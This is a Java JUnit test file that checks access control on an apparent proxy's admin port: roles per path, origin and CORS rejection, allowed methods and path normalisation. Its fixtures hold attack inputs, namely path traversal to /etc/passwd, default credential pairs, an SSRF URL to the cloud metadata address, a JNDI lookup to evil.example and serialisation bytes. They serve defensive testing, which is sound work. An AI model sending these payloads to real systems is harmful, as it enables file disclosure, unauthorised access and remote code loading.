package dev.tokenmeter.proxy.admin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tokenmeter.config.Admin;
import dev.tokenmeter.config.Admin.Auth;
import dev.tokenmeter.config.Admin.Role;
import dev.tokenmeter.proxy.identity.CallerTokens;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** All ways into the admin port there are, each tried with every kind of visitor. */
@Tag("SEC-06")
@Tag("SEC-08")
@Tag("SEC-09")
final class AdminInventoryTest {
  /** A path that is added here was thought about. */
  private static final Map<String, Access> ROOMS =
      Map.ofEntries(
          Map.entry("/healthz", Access.PROBE),
          Map.entry("/readyz", Access.PROBE),
          Map.entry("/", Access.READ),
          Map.entry("/metrics", Access.READ),
          Map.entry("/api/v1/status", Access.READ),
          Map.entry("/api/v1/board", Access.READ),
          Map.entry("/api/v1/usage", Access.OWN),
          Map.entry("/api/v1/budgets", Access.OWN),
          Map.entry("/api/v1/focus.csv", Access.OWN),
          Map.entry("/api/v1/me", Access.OWN),
          Map.entry("/api/v1/leaderboard", Access.COMPARE),
          Map.entry("/api/v1/caller", Access.PERSON),
          Map.entry("/api/v1/outcomes", Access.OPERATE),
          Map.entry("/-/reload", Access.OPERATE));

  private static final List<String> PAGES = List.of("/caller", "/assets/page.css");
  private static final String JSON = "Content-Type: application/json";
  private static final String READER = "Authorization: Bearer reader";
  private static final String OPERATOR = "Authorization: Bearer operator";
  private static final String ALICE = "Authorization: Bearer " + AdminPort.ALICES;

  @TempDir private Path directory;
  private AdminPort port = new AdminPort(Path.of("unset"));

  @BeforeEach
  void place() {
    port = new AdminPort(directory.resolve("none.db"));
  }

  @AfterEach
  void close() {
    port.close();
  }

  static Stream<Map.Entry<String, Access>> rooms() {
    return ROOMS.entrySet().stream();
  }

  private static Auth.Tokens tokens() {
    return new Auth.Tokens(
        List.of(
            new Admin.Token(CallerTokens.sha256("reader"), Role.READ),
            new Admin.Token(CallerTokens.sha256("operator"), Role.OPERATE)));
  }

  private RawHttp open() throws AdminFailure {
    return port.open(new Admin("127.0.0.1", 0, tokens())).as("localhost:8081");
  }

  private static RawHttp.Answer ask(RawHttp http, String path, String... fields) throws Exception {
    if (ROOMS.get(path) != Access.OPERATE) {
      return http.get(path, fields);
    }
    List<String> all = Stream.concat(Stream.of(JSON), Stream.of(fields)).toList();
    return http.post(path, all.toArray(String[]::new));
  }

  @Test
  void rooms_areTheseAndNoOthers() throws Exception {
    String told = open().get("/nowhere", OPERATOR).text();
    String listed = "here are: " + String.join(" ", ROOMS.keySet().stream().sorted().toList());
    assertThat(told).isEqualTo(listed + "\n");
  }

  @ParameterizedTest
  @MethodSource("rooms")
  void room_letsInWhoMayEnter_andNobodyElse(Map.Entry<String, Access> room) throws Exception {
    RawHttp http = open();
    Access access = room.getValue();
    String path = room.getKey();
    boolean open = access == Access.PROBE;
    boolean operates = access == Access.OPERATE || access == Access.PERSON;
    assertEnters(open, 401, ask(http, path));
    for (String wrong : List.of("Bearer wrong", "Bearer ", "Basic cmVhZGVy", "reader")) {
      assertEnters(open, 401, ask(http, path, "Authorization: " + wrong));
    }
    assertEnters(open || access == Access.OWN, 403, ask(http, path, ALICE));
    assertEnters(!operates, 403, ask(http, path, READER));
    assertEnters(true, 403, ask(http, path, OPERATOR));
  }

  private static void assertEnters(boolean may, int otherwise, RawHttp.Answer answer) {
    if (may) {
      assertThat(answer.status()).isNotIn(401, 405, 500);
      assertThat(answer.text()).doesNotContain("this token may", "what is his alone");
    } else {
      assertThat(answer.status()).isEqualTo(otherwise);
    }
  }

  @ParameterizedTest
  @MethodSource("rooms")
  void room_isShutToOtherOriginsAndNames_whateverTheToken(Map.Entry<String, Access> room)
      throws Exception {
    RawHttp http = open();
    boolean probe = room.getValue() == Access.PROBE;
    for (String foreign :
        List.of(
            "Origin: http://evil.example",
            "Origin: null",
            "Origin: http://localhost:8081.evil.example",
            "Sec-Fetch-Site: cross-site",
            "Sec-Fetch-Site: same-site")) {
      RawHttp.Answer answer = ask(http, room.getKey(), OPERATOR, foreign);
      assertThat(answer.status()).as(foreign).isEqualTo(probe ? 200 : 403);
      assertNoSharing(answer);
    }
    RawHttp.Answer rebound = ask(http.as("evil.example"), room.getKey(), OPERATOR);
    assertThat(rebound.status()).isEqualTo(probe ? 200 : 403);
    assertNoSharing(rebound);
  }

  @ParameterizedTest
  @MethodSource("rooms")
  void room_takesOneMethod_andAnswersNoPreflight(Map.Entry<String, Access> room) throws Exception {
    RawHttp http = open();
    boolean changes = room.getValue() == Access.OPERATE;
    for (String method : List.of("PUT", "PATCH", "DELETE", "OPTIONS", changes ? "GET" : "POST")) {
      RawHttp.Answer answer =
          http.request(
              method,
              room.getKey(),
              OPERATOR,
              "Access-Control-Request-Method: POST",
              "Access-Control-Request-Private-Network: true");
      assertThat(answer.status()).as(method).isEqualTo(405);
      assertNoSharing(answer);
    }
  }

  private static void assertNoSharing(RawHttp.Answer answer) {
    assertThat(answer.headers().keySet()).noneMatch(name -> name.startsWith("access-control-"));
  }

  @Test
  void pages_holdNothingOfAnybody_andAreShutToOtherNames() throws Exception {
    RawHttp http = open();
    for (String page : PAGES) {
      assertThat(http.get(page).status()).isEqualTo(200);
      assertThat(http.get(page).text()).doesNotContain("alice", "reader");
      assertThat(http.as("evil.example").get(page).status()).isEqualTo(403);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/assets/../page.css",
        "/assets/..%2f..%2ftokenmeter.yaml",
        "/assets/%2e%2e/secret",
        "/assets//etc/passwd",
        "/../etc/passwd",
        "/api/v1/../../-/reload",
        "//-/reload",
        "/-/reload/",
        "/metrics;/healthz",
        "/healthz/../metrics",
        "/metrics%2f..%2fhealthz"
      })
  void path_thatIsNoRoomToTheLetter_isNoneAtAll(String path) throws Exception {
    assertThat(open().get(path).status()).isEqualTo(401);
    assertThat(open().get(path, OPERATOR).status()).isEqualTo(404);
  }

  @Test
  void firstPasswords_ofOtherProducts_openNothing() throws Exception {
    RawHttp http = open();
    for (String pair :
        List.of(
            "root:123456",
            "admin:admin",
            "admin:password",
            "admin:",
            ":",
            "tokenmeter:tokenmeter",
            "sk-1234:sk-1234",
            "user:changeme")) {
      String coded = Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.ISO_8859_1));
      String password = pair.substring(pair.indexOf(':') + 1);
      assertThat(http.get("/metrics", "Authorization: Basic " + coded).status()).isEqualTo(401);
      assertThat(http.get("/metrics", "Authorization: Bearer " + password).status()).isEqualTo(401);
      assertThat(http.get("/metrics?token=" + password, "Cookie: token=" + password).status())
          .isEqualTo(401);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"config\":\"/etc/passwd\"}",
        "{\"url\":\"http://169.254.169.254/\"}",
        "{\"class\":\"java.lang.Runtime\"}",
        "${jndi:ldap://evil.example/a}",
        "\u00ac\u00ed\u0000\u0005sr"
      })
  void body_ofAChange_namesNothingThatIsRead(String body) throws Exception {
    RawHttp http = open();
    assertThat(http.tell("/-/reload", body, JSON, OPERATOR).text())
        .isEqualTo("{\"reloaded\":true}\n");
    assertThat(http.tell("/api/v1/outcomes", body, JSON, OPERATOR).status()).isEqualTo(400);
    assertThat(port.outcomes).isEmpty();
  }
}
